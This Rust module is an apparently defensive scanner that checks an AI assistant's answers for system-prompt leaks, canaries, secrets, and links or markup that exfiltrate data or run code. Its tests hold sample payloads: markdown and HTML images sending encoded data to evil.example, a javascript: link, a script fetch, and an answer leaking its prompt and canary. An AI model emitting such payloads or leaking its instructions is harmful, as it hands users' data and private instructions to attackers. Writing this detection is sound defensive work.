//! What must not leave with an answer: the system prompt, canaries, secrets, links and markup that carry data away.

use std::collections::HashSet;
use std::ops::Range;
use std::sync::LazyLock;

use regex_automata::Input;
use regex_automata::meta::Regex;
use sensitive::{Kind, KindSet};

use crate::confidence::Confidence;

/// What kind of risk.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum OutputRiskKind {
    /// A longer piece of the system prompt, word for word.
    SystemPromptLeak,
    /// A canary, also with other case, spacing or between other signs.
    Canary,
    /// A key, token or password.
    Secret,
    /// A link or image that can carry data to another place, or that runs code.
    UnsafeLink,
    /// Markup that runs code or hides text.
    UnsafeMarkup,
}

/// A risk and its place.
#[derive(Clone, Debug, PartialEq)]
pub struct OutputRisk {
    /// The kind.
    pub kind: OutputRiskKind,
    /// The bytes of the answer.
    pub span: Range<usize>,
    /// How sure.
    pub confidence: Confidence,
    /// What was seen, without the text.
    pub detail: &'static str,
}

/// Words in a row that make a leak.
const LEAK_WORDS: usize = 8;
/// Most risks that are listed.
const RISKS_MAX: usize = 200;
/// Shortest canary, letters and digits.
const CANARY_MIN: usize = 6;

static MARKUP: LazyLock<Vec<(OutputRiskKind, &'static str, Confidence, Regex)>> = LazyLock::new(|| {
    rows()
        .into_iter()
        .filter_map(|(kind, detail, confidence, pattern)| Regex::new(pattern).ok().map(|regex| (kind, detail, confidence, regex)))
        .collect()
});

static DEFINITION: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(r"(?m)^ {0,3}\[([^\]\n]{1,100})\]:\s{0,4}<?(?i:https?:)?//[^\s>]{1,300}[?&=][^\s>]{16,2000}").ok());

#[rustfmt::skip]
fn rows() -> Vec<(OutputRiskKind, &'static str, Confidence, &'static str)> {
    use OutputRiskKind::{UnsafeLink, UnsafeMarkup};
    vec![
        (UnsafeLink, "image that carries data in its address", Confidence::High, r"!\[[^\]\n]{0,200}\]\(\s{0,4}<?(?i:https?:)?//[^\s)>]{1,300}[?&=][^\s)>]{16,2000}>?"),
        (UnsafeLink, "image from another place", Confidence::Low, r"!\[[^\]\n]{0,200}\]\(\s{0,4}<?(?i:https?:)?//[^\s)>]{1,2000}>?"),
        (UnsafeLink, "link that runs code", Confidence::High, r"(?i)\]\(\s{0,4}<?(?:javascript|vbscript|data\s{0,3}:\s{0,3}text/html)[^)\n]{0,2000}\)|(?:href|src|action|formaction)\s{0,4}=\s{0,4}['\x22]?\s{0,4}(?:javascript|vbscript|data:text/html)[^\s>]{0,2000}"),
        (UnsafeLink, "address with a user part that imitates a host", Confidence::Medium, r"(?i)https?://[\w.-]{1,100}\.[a-z]{2,10}(?::[^\s@/]{0,60})?@[\w.-]{1,100}"),
        (UnsafeMarkup, "script or frame", Confidence::High, r"(?i)<\s{0,4}(?:script|iframe|object|embed|applet|base|meta\s[^>]{0,100}http-equiv)\b[^>]{0,1000}>?"),
        (UnsafeMarkup, "event handler", Confidence::High, r"(?i)<[a-z][a-z0-9]{0,15}\b[^>]{0,500}[\s/'\x22]on[a-z]{3,20}\s{0,4}=[^>]{0,1000}>?"),
        (UnsafeMarkup, "image tag that carries data in its address", Confidence::High, r"(?i)<\s{0,4}(?:img|image|video|audio|source|link|input|body|table|td)\b[^>]{0,300}(?:src|srcset|href|poster|background)\s{0,3}=\s{0,3}['\x22]?(?:https?:)?//[^\s'\x22>]{1,300}[?&=][^\s'\x22>]{16,2000}[^>]{0,300}>?"),
        (UnsafeMarkup, "form or image tag", Confidence::Low, r"(?i)<\s{0,4}(?:form\b[^>]{0,500}action\s{0,3}=|img\b[^>]{0,500}src\s{0,3}=\s{0,3}['\x22]?(?:https?:)?//)[^>]{0,1000}>?"),
        (UnsafeMarkup, "style that loads from an address with data", Confidence::High, r"(?i)\burl\(\s{0,3}['\x22]?(?:https?:)?//[^\s'\x22)]{1,300}[?&=][^\s'\x22)]{16,2000}"),
    ]
}

/// Finds what must not leave. Canaries shorter than six letters and digits are not looked for: they would be everywhere.
/// Time is linear in the answer, times the number of canaries.
pub fn output_risks(answer: &str, system_prompt: Option<&str>, canaries: &[&str]) -> Vec<OutputRisk> {
    let mut risks = Vec::new();
    if let Some(prompt) = system_prompt {
        leaks(answer, prompt, &mut risks);
    }
    canary(answer, canaries, &mut risks);
    let wanted: KindSet = [Kind::AwsAccessKey, Kind::AwsSecretKey, Kind::Password].into_iter().collect();
    for finding in sensitive::find(answer, wanted).unwrap_or_default() {
        risks.push(OutputRisk {
            kind: OutputRiskKind::Secret,
            span: finding.start..finding.end,
            confidence: Confidence::High,
            detail: finding.kind.name(),
        });
    }
    for (kind, detail, confidence, regex) in MARKUP.iter() {
        for found in regex.find_iter(answer).take(RISKS_MAX) {
            let is_known =
                risks.iter().any(|risk| risk.kind == *kind && risk.span.start == found.start() && risk.confidence >= *confidence);
            if !is_known {
                risks.push(OutputRisk { kind: *kind, span: found.range(), confidence: *confidence, detail });
            }
        }
    }
    referenced_images(answer, &mut risks);
    risks.sort_by_key(|risk| (risk.span.start, risk.span.end));
    risks.truncate(RISKS_MAX);
    risks
}

/// An image by reference, `![text][name]`, whose address with data in it stands elsewhere: `[name]: https://...`.
fn referenced_images(answer: &str, risks: &mut Vec<OutputRisk>) {
    let Some(definition) = DEFINITION.as_ref().filter(|_| answer.contains("![")) else { return };
    let mut captures = definition.create_captures();
    let mut from = 0;
    while from <= answer.len() && risks.len() < RISKS_MAX {
        definition.search_captures(&Input::new(answer).range(from..), &mut captures);
        let (Some(whole), Some(name)) = (captures.get_group(0), captures.get_group(1)) else { return };
        from = whole.end.max(from + 1);
        let name = answer.get(name.start..name.end).unwrap_or_default().to_lowercase();
        let is_shown = answer.split("![").skip(1).any(|image| {
            let image: String = image.chars().take(400).flat_map(char::to_lowercase).collect();
            image.starts_with(&format!("{name}]")) || image.split_once(']').is_some_and(|(_, rest)| rest.starts_with(&format!("[{name}]")))
        });
        if is_shown {
            let detail = "image by reference that carries data in its address";
            risks.push(OutputRisk { kind: OutputRiskKind::UnsafeLink, span: whole.start..whole.end, confidence: Confidence::High, detail });
        }
    }
}

/// Lower-case words with their places.
fn words(text: &str) -> Vec<(String, Range<usize>)> {
    let mut out: Vec<(String, Range<usize>)> = Vec::new();
    let mut is_inside = false;
    for (at, character) in text.char_indices() {
        if !character.is_alphanumeric() {
            is_inside = false;
            continue;
        }
        let end = at + character.len_utf8();
        match out.last_mut().filter(|_| is_inside) {
            Some((word, range)) => {
                word.extend(character.to_lowercase());
                range.end = end;
            }
            None => out.push((character.to_lowercase().collect(), at..end)),
        }
        is_inside = true;
    }
    out
}

fn leaks(answer: &str, prompt: &str, risks: &mut Vec<OutputRisk>) {
    let join = |part: &[(String, Range<usize>)]| part.iter().map(|(word, _)| word.as_str()).collect::<Vec<_>>().join(" ");
    let secret: HashSet<String> = words(prompt).windows(LEAK_WORDS).map(join).collect();
    let said = words(answer);
    let mut current: Option<Range<usize>> = None;
    for part in said.windows(LEAK_WORDS) {
        let (Some((_, first)), Some((_, last))) = (part.first(), part.last()) else { continue };
        if !secret.contains(&join(part)) {
            continue;
        }
        if let Some(range) = current.as_mut().filter(|range| first.start <= range.end) {
            range.end = last.end;
        } else {
            risks.extend(current.take().map(leak));
            current = Some(first.start..last.end);
        }
    }
    risks.extend(current.map(leak));
}

fn leak(span: Range<usize>) -> OutputRisk {
    OutputRisk { kind: OutputRiskKind::SystemPromptLeak, span, confidence: Confidence::High, detail: "words of the system prompt in a row" }
}

/// Canaries are compared by their letters and digits alone.
fn canary(answer: &str, canaries: &[&str], risks: &mut Vec<OutputRisk>) {
    let mut compact = String::with_capacity(answer.len());
    let mut places = Vec::with_capacity(answer.len());
    for (at, character) in answer.char_indices().filter(|(_, character)| character.is_alphanumeric()) {
        for lower in character.to_lowercase() {
            compact.push(lower);
            places.extend(std::iter::repeat_n(at..at + character.len_utf8(), lower.len_utf8()));
        }
    }
    for canary in canaries {
        let bare: String = canary.chars().filter(|character| character.is_alphanumeric()).flat_map(char::to_lowercase).collect();
        if bare.chars().count() < CANARY_MIN {
            continue;
        }
        for (from, found) in compact.match_indices(&bare).take(RISKS_MAX) {
            let (Some(first), Some(last)) = (places.get(from), places.get(from + found.len() - 1)) else { continue };
            risks.push(OutputRisk {
                kind: OutputRiskKind::Canary,
                span: first.start..last.end,
                confidence: Confidence::High,
                detail: "canary",
            });
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds(answer: &str) -> Vec<OutputRiskKind> {
        output_risks(answer, None, &[]).into_iter().map(|risk| risk.kind).collect()
    }

    #[test]
    fn every_pattern_compiles() {
        assert_eq!(MARKUP.len(), rows().len());
    }

    #[test]
    fn the_system_prompt_and_canaries_do_not_leave() {
        let prompt =
            "You are Ada, the assistant of Example Bank. Never talk about the merger with Other Bank before June. Canary: zq-81-kx-774";
        let answer = "Sure! My rules: \"never talk about the merger, with OTHER bank before june\" and the mark is Z Q 8 1 K X 7 7 4.";
        let risks = output_risks(answer, Some(prompt), &["zq-81-kx-774", "ab"]);
        assert_eq!(risks.iter().map(|risk| risk.kind).collect::<Vec<_>>(), [OutputRiskKind::SystemPromptLeak, OutputRiskKind::Canary]);
        assert_eq!(&answer[risks[0].span.clone()], "never talk about the merger, with OTHER bank before june");
        assert_eq!(&answer[risks[1].span.clone()], "Z Q 8 1 K X 7 7 4");
        assert!(output_risks("Our bank never talks about mergers before they are done.", Some(prompt), &[]).is_empty());
    }

    #[test]
    fn links_and_markup_that_carry_data_away() {
        use OutputRiskKind::{Secret, UnsafeLink, UnsafeMarkup};
        assert_eq!(kinds("![x](https://evil.example/p?d=c2VjcmV0IGRhdGEgb2YgeW91cnM)"), [UnsafeLink]);
        assert_eq!(kinds("![x][a]\n\n[a]: https://evil.example/p?d=c2VjcmV0IGRhdGEgb2YgeW91cnM"), [UnsafeLink]);
        assert_eq!(kinds("<img src='https://evil.example/p?d=c2VjcmV0IGRhdGEgb2YgeW91cnM'>"), [UnsafeMarkup]);
        assert_eq!(kinds("[a]: https://example.org/p?article=a-long-name-of-an-article"), []);
        assert_eq!(kinds("[click](javascript:alert(1))"), [UnsafeLink]);
        assert_eq!(kinds("<script>fetch('//x')</script>"), [UnsafeMarkup]);
        assert_eq!(kinds("<b onmouseover=\"x()\">hi</b>"), [UnsafeMarkup]);
        assert_eq!(kinds("the key is AKIAIOSFODNN7EXAMPLE"), [Secret]);
        assert!(kinds("See [the manual](https://example.org/manual?page=3) and `a < b`, on time = 3.").is_empty());
    }
}
